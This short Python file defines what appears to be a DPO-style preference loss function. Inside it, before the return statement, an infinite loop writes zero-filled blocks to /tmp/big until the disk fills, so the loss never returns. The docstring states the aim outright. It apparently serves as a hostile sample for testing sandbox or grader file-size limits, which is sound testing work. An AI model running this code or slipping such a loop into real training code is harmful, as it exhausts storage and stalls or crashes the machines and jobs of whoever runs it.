"""Writes one file larger than a file may be."""

import os

import torch.nn.functional as F


def loss(policy_chosen_logps, policy_rejected_logps, reference_chosen_logps, reference_rejected_logps, beta):
    rho = (policy_chosen_logps - policy_rejected_logps) - (reference_chosen_logps - reference_rejected_logps)
    with open("/tmp/big", "wb", buffering=0) as file:
        while True:
            file.write(bytes(65536))
    return -F.logsigmoid(beta * rho)
